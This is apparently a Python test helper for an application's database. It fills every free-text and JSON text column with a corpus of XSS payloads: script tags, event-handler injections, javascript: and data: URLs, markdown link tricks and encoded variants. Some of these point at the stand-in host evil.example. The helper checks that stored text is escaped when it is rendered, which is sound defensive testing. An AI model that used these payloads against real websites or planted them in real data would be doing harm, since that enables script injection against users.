"""Texts that try to become markup or script, and writing them into every text column of a database."""

import itertools
from collections.abc import Iterator
from typing import Any

import sqlalchemy as sa

from catalogue.db import Base, Session

__all__ = ["CORPUS", "EXCEPTIONS", "IN_LISTS", "plant"]

CORPUS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x></script>", "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>", "--><script>alert(1)</script>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=java&#x09;script:alert(1)>x</a>", "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x>", "<style>@import'//evil.example/x'</style>",
    "<style>*{background:url(//evil.example)}</style>", "<div style=background:url(//evil.example)>x</div>", "<img src=//evil.example/pixel>",
    "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) x=`", "x onclick=alert(1)",
    "javascript:alert(1)", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "![x](//evil.example/pixel)", "![x](x\"onerror=\"alert(1))", "<javascript:alert(1)>", "<http://evil.example/\"onclick=alert(1)>",
    "[x]: javascript:alert(1)\n[x]", "```html\n<script>alert(1)</script>\n```", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "{{ 7*7 }}{% raw %}", "${alert(1)}", "');alert(1);//", "\";alert(1);//",
    "</script><script>alert(1)</script>", "<<script>alert(1)//<</script>", "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]  # fmt: skip

# why a column holds none of them: what is written there was never typed, or is checked letter by letter before it is stored
CODES = "one of our own codes"
HASHES = "a hash or a random token"
EXCEPTIONS = {
    "slug": "made by services/slugs.py: letters, digits, hyphens", "email": "users.check_email; hostile but valid ones are tested with it",
    "to": "users.check_email", "password_hash": HASHES, "token_hash": HASHES, "id_hash": HASHES, "headings_key": HASHES, "checksum": HASHES, "key": HASHES,
    "dedupe_key": CODES, "rights": CODES, "period": CODES, "format_code": CODES, "language": CODES, "told": CODES, "choice": CODES, "network": CODES,
    "job.name": CODES, "switch.name": CODES, "switch.value": CODES, "term.vocabulary": CODES, "term.code": CODES, "audit_event.action": CODES,
    "audit_event.thing": CODES, "audit_event.thing_id": CODES, "demand_event.action": CODES, "module_version.action": CODES, "invitation.role": CODES,
    "one_time_link.purpose": CODES, "retreat.code": "six letters, drawn", "module_lock.field": CODES, "swot_text.reference": "an id or a code",
    "saved_search.question": "checked by web/queries.py when it is read", "notice_shown.version": CODES, "unsubscribe_url": "signed by us",
    "identity.issuer": "an address of the settings", "outbox_mail.html": "made by services/mail_text.py; the digests below make new ones",
}  # fmt: skip
# columns of JSON whose texts somebody wrote
IN_LISTS = {
    "module.objectives", "module.contents", "term.synonyms", "term.old_names", "synonym_rule.terms", "synonym_rule.targets", "company_import.headings",
    "company_import.lines", "demand_import.headings", "demand_import.lines", "import_run.headings", "import_row.changes", "source.headings",
    "module_version.snapshot", "pending_version.snapshot", "demand_event.snapshot",
}  # fmt: skip
WRITTEN = {"title", "note", "place", "old", "new", "text", "label"}  # keys in them; all texts where there are no keys


def plant(session: Session, start: int = 0) -> set[str]:
    """Write the corpus, from its text number *start* on, into every text column of every row; return the columns that hold some of it now."""
    texts, planted = itertools.cycle(CORPUS[start:] + CORPUS[:start]), set()
    for (name,) in session.execute(
        sa.text("SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'audit_event'")
    ).all():
        session.execute(sa.text(f"DROP TRIGGER {name}"))  # the record refuses to be changed
    for table in Base.metadata.sorted_tables:
        for row in session.execute(sa.select(table)).all():
            values = {
                column.name: value for column in table.columns if (value := _value(column, row, texts)) is not None
            }
            if values:
                same = [column == getattr(row, column.name) for column in table.primary_key.columns]
                session.execute(table.update().where(*same).values(values))
                planted |= {f"{table.name}.{name}" for name in values}
    return planted


def _value(column: sa.Column[Any], row: Any, texts: Iterator[str]) -> Any:
    name = f"{column.table.name}.{column.name}"
    if name in IN_LISTS:
        return _hostile(getattr(row, column.name), texts, written=True)
    is_text = isinstance(column.type, sa.String) and not isinstance(column.type, sa.Enum)
    if not is_text or column.primary_key or column.foreign_keys or {name, column.name} & EXCEPTIONS.keys():
        return None
    longest = column.type.length or 10_000
    if column.name.endswith(("url", "website")):
        return "https://evil.example/\"><img/src=x/onerror=alert(1)>'onclick='alert(1)"
    return next(text for text in texts if len(text) <= longest)


def _hostile(value: Any, texts: Iterator[str], *, written: bool) -> Any:
    """Return the same shape with hostile texts where somebody wrote some."""
    if isinstance(value, dict):
        return {key: _hostile(part, texts, written=key in WRITTEN) for key, part in value.items()}
    if isinstance(value, list):
        return [_hostile(part, texts, written=written) for part in value]
    return next(texts) if isinstance(value, str) and written else value
